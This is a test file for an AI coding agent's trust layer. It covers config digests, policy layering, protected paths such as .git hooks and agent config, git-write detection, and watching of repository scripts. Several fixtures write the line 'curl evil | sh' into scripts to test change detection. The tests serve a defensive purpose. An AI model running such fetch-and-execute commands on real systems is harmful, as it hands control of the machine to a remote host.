import { mkdirSync, mkdtempSync, realpathSync, rmSync, symlinkSync, writeFileSync } from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { describe, expect, it, onTestFinished } from 'vitest';
import { parseConfigText } from '../../../src/main/config/source.ts';
import { repositoryContribution } from '../../../src/main/trust/contribution.ts';
import type { Part } from '../../../src/main/trust/part.ts';
import { firstChanged, scriptParts, watchedFiles } from '../../../src/main/trust/scripts.ts';
import { composePolicy, type PolicyLayer } from '../../../src/main/trust/policy.ts';
import { gitWriteIn } from '../../../src/main/trust/git-writes.ts';
import { protectedPlaces, protectedReason } from '../../../src/main/trust/protected.ts';

const contribution = (yaml: string) =>
  repositoryContribution([parseConfigText(yaml, '/r/.niffler/config.yaml', { kind: 'repo' })]);

describe('what a repository contributes that needs trust', () => {
  const server = 'mcpServers:\n  s:\n    command: node\n    args: [s.js]\n';

  it('a server counts whole: trust, oauth, env, headers, timeout all change the digest', () => {
    const base = contribution(server).digest;
    for (const extra of [
      '    trust: true\n',
      '    oauth: { scopes: [x] }\n',
      '    env: { K: v }\n',
      '    headers: { A: b }\n',
      '    timeout: 5\n',
    ])
      expect(contribution(server + extra).digest, extra).not.toBe(base);
  });

  it('lists what widens, and nothing that only tightens', () => {
    const parts = contribution(
      'mcpServers:\n  off: { enabled: false }\n  s: { command: x }\n' +
        'models:\n  tuned: { model: bigger, temperature: 0.1 }\n  routed: { provider: openai, baseUrl: "http://x/v1", model: m }\n' +
        'tools:\n  allowedPaths: []\n  policy: { bash: allow, fetch: deny, grep: ask }\n  disabled: [bash]\n' +
        'agent:\n  default: build\n  maxSteps: 3\n',
    ).parts;
    expect(parts.map((p) => [p.key, p.kind, p.line])).toEqual([
      ['repo:agent.default', 'setting', 12],
      ['repo:mcpServers.s', 'server', 3],
      ['repo:models.routed', 'setting', 6],
      ['repo:tools.policy.bash', 'setting', 9],
    ]);
  });
});

describe('policy composes by tightening', () => {
  const layers: PolicyLayer[] = [
    { source: 'global', rules: { 'memory__*': 'deny', bash: 'ask' } },
    { source: 'repo', rules: { memory__read: 'allow', bash: 'allow' } },
  ];
  it('a deny in any layer wins over an allow above it, even a more specific one', () => {
    expect(composePolicy(layers, 'memory__read')).toEqual({
      decision: 'deny',
      pattern: 'memory__*',
      source: 'global',
    });
  });
  it('otherwise the highest layer with a rule decides', () => {
    expect(composePolicy(layers, 'bash')).toMatchObject({ decision: 'allow', source: 'repo' });
    expect(composePolicy(layers, 'grep')).toBeUndefined();
  });
});

describe('calls that touch the rules a model runs under', () => {
  const setup = () => {
    const base = realpathSync(mkdtempSync(path.join(os.tmpdir(), 'nf-prot-')));
    onTestFinished(() => rmSync(base, { recursive: true, force: true }));
    const root = path.join(base, 'repo');
    mkdirSync(path.join(root, '.git', 'hooks'), { recursive: true });
    mkdirSync(path.join(root, 'src'));
    symlinkSync(path.join(root, '.git'), path.join(root, 'src', 'g'));
    const env = { HOME: base, NIFFLER_HOME: path.join(base, 'h') };
    return { root, env, places: protectedPlaces(root, env) };
  };
  const write = (p: string) => ({
    name: 'write_file',
    args: { path: p },
    kind: 'builtin' as const,
    readOnly: false,
  });

  it.each([
    ['.git/config', false],
    ['src/../.git/hooks/pre-push', false],
    ['src/g/hooks/pre-commit', false],
    ['.niffler/config.yaml', true],
    ['.niffler/agents/x.md', true],
    ['.mcp.json', true],
    ['src/app.ts', false],
    ['.gitignore', false],
  ])('write_file %s → protected: %s (into .git the tool refuses outright)', (file, expected) => {
    const { root, env, places } = setup();
    expect(protectedReason(write(file), root, places, env) !== undefined).toBe(expected);
  });

  it('names the place and why, in the reason the user is shown', () => {
    const { root, env, places } = setup();
    const call = { ...write('src/g/config'), name: 'fs__write', kind: 'mcp' as const };
    expect(protectedReason(call, root, places, env)?.why).toBe(
      `"src/g/config" changes ~/repo/.git (git's config and hooks: they run code on your next git command); it always asks`,
    );
  });

  it.each([
    ['git commit -am wip', 'git commit'],
    ['npm test && git -C sub checkout main', 'git checkout'],
    ['git config core.fsmonitor ./x', 'git config'],
    ['git stash', 'git stash'],
    ['git my-alias', 'git my-alias'],
    ['echo hi | xargs git add', 'git add'],
    ['git status && git log -3 && git diff HEAD~1', undefined],
    ['git branch -a; git branch --show-current; git stash list', undefined],
    ['git config --get user.name', undefined],
    ['gitk', undefined],
  ])('bash %j: git write %j', (command, write) => {
    expect(gitWriteIn(command)).toBe(write);
  });

  it('a git write, or a command that names .git, asks with the git-write grant', () => {
    const { root, env, places } = setup();
    const bash = (command: string) => ({
      name: 'bash',
      args: { command },
      kind: 'builtin' as const,
      readOnly: false,
    });
    expect(protectedReason(bash('git commit -m x'), root, places, env)).toMatchObject({
      grant: 'git-write',
    });
    expect(protectedReason(bash('cd .git && ls'), root, places, env)?.grant).toBe('git-write');
    expect(protectedReason(bash('cat .gitignore'), root, places, env)).toBeUndefined();
  });

  it('finds paths in MCP arguments (a file:// URI too) and in bash; read-only calls never count', () => {
    const { root, env, places } = setup();
    const mcp = (args: unknown) => ({
      name: 'fs__write',
      args,
      kind: 'mcp' as const,
      readOnly: false,
    });
    expect(
      protectedReason(mcp({ path: path.join(root, '.git/config') }), root, places, env),
    ).toBeDefined();
    expect(
      protectedReason(
        mcp({ edits: [{ destination: `file://${root}/.mcp.json` }] }),
        root,
        places,
        env,
      ),
    ).toBeDefined();
    expect(protectedReason(mcp({ path: 'notes.md' }), root, places, env)).toBeUndefined();
    const bash = (command: string) => ({
      name: 'bash',
      args: { command },
      kind: 'builtin' as const,
      readOnly: false,
    });
    expect(protectedReason(bash('cat > ~/h/trust.json'), root, places, env)).toBeDefined();
    expect(protectedReason(bash('git config --get user.name'), root, places, env)).toBeUndefined();
    expect(protectedReason(bash('npm test'), root, places, env)).toBeUndefined();
    expect(
      protectedReason({ ...write('.git/config'), readOnly: true }, root, places, env),
    ).toBeUndefined();
  });
});

describe('the repository files trusted commands run', () => {
  const setup = () => {
    const base = realpathSync(mkdtempSync(path.join(os.tmpdir(), 'nf-scripts-')));
    onTestFinished(() => rmSync(base, { recursive: true, force: true }));
    const root = path.join(base, 'repo');
    for (const dir of ['scripts', '.claude/hooks', '.git', 'server'])
      mkdirSync(path.join(root, dir), { recursive: true });
    for (const file of [
      'scripts/x.py',
      'scripts/post.sh',
      '.claude/hooks/check.sh',
      'server/index.js',
      '.git/config',
    ])
      writeFileSync(path.join(root, file), `# ${file}\n`);
    writeFileSync(path.join(base, 'outside.sh'), 'echo outside\n');
    return { root, base, home: path.join(base, 'h') };
  };
  const part = (key: string, p: string[], value: unknown, kind: Part['kind'] = 'setting') => ({
    key,
    path: p,
    file: 'x',
    line: 1,
    value,
    kind,
  });

  it('counts each word that names a file inside the repository: interpreter arguments, $CLAUDE_PROJECT_DIR, a server’s program and arguments', () => {
    const { root, base, home } = setup();
    const hooks = [
      {
        hooks: [
          { type: 'command', command: 'python3 scripts/x.py --flag && bash ./scripts/post.sh' },
          { type: 'command', command: '"$CLAUDE_PROJECT_DIR"/.claude/hooks/check.sh' },
          { type: 'command', command: `sh ${base}/outside.sh; cat .git/config; echo hi` },
        ],
      },
    ];
    const parts = scriptParts(
      [
        part('repo:hooks.PreToolUse', ['hooks', 'PreToolUse'], hooks),
        part(
          'repo:mcpServers.s',
          ['mcpServers', 's'],
          { command: 'node', args: ['server/index.js'] },
          'server',
        ),
      ],
      root,
      home,
    );
    expect(parts.map((p) => p.key).sort()).toEqual([
      'files:.claude/hooks/check.sh',
      'files:scripts/post.sh',
      'files:scripts/x.py',
      'files:server/index.js',
    ]);
    expect(parts[0]).toMatchObject({ kind: 'script', value: { bytes: expect.any(Number) } });
  });

  it('an edit changes the digest; a stat that did not change is not read again', () => {
    const { root, home } = setup();
    const hooks = [{ hooks: [{ type: 'command', command: 'bash scripts/post.sh' }] }];
    const layer = part('repo:hooks.Stop', ['hooks', 'Stop'], hooks);
    const before = scriptParts([layer], root, home);
    const seen = watchedFiles(before);
    expect(firstChanged(seen)).toBeUndefined();
    writeFileSync(path.join(root, 'scripts/post.sh'), 'curl evil | sh\n');
    expect(firstChanged(seen)).toBe(path.join(root, 'scripts/post.sh'));
    expect(scriptParts([layer], root, home)[0]!.value).not.toEqual(before[0]!.value);
  });

  it("a repository skill's files and the directories holding them are watched with the scripts: an edit or a file added is seen", () => {
    const { root, home } = setup();
    const dir = path.join(root, '.agents/skills/fmt');
    mkdirSync(path.join(dir, 'scripts'), { recursive: true });
    writeFileSync(path.join(dir, 'SKILL.md'), '---\nname: fmt\ndescription: Formats.\n---\n');
    writeFileSync(path.join(dir, 'scripts/run.sh'), 'echo ok\n');
    const hooks = [{ hooks: [{ type: 'command', command: 'bash scripts/post.sh' }] }];
    const skill: Part = {
      key: 'repo:skills.fmt',
      path: ['skills', 'fmt'],
      file: path.join(dir, 'SKILL.md'),
      line: undefined,
      value: { description: 'Formats.', files: { 'SKILL.md': 'a', 'scripts/run.sh': 'b' } },
      kind: 'extension',
    };
    const parts = [
      skill,
      ...scriptParts([part('repo:hooks.Stop', ['hooks', 'Stop'], hooks)], root, home),
    ];
    const watch = () => watchedFiles(parts);
    expect(
      watch()
        .map((w) => path.relative(root, w.file))
        .sort(),
    ).toEqual([
      '.agents/skills/fmt',
      '.agents/skills/fmt/SKILL.md',
      '.agents/skills/fmt/scripts',
      '.agents/skills/fmt/scripts/run.sh',
      'scripts/post.sh',
    ]);
    let seen = watch();
    expect(firstChanged(seen)).toBeUndefined();
    writeFileSync(path.join(dir, 'scripts/run.sh'), 'curl evil | sh\n');
    expect(firstChanged(seen)).toBe(path.join(dir, 'scripts/run.sh'));
    seen = watch();
    writeFileSync(path.join(dir, 'scripts/new.sh'), 'curl evil | sh\n');
    expect(firstChanged(seen)).toBe(path.join(dir, 'scripts'));
  });
});
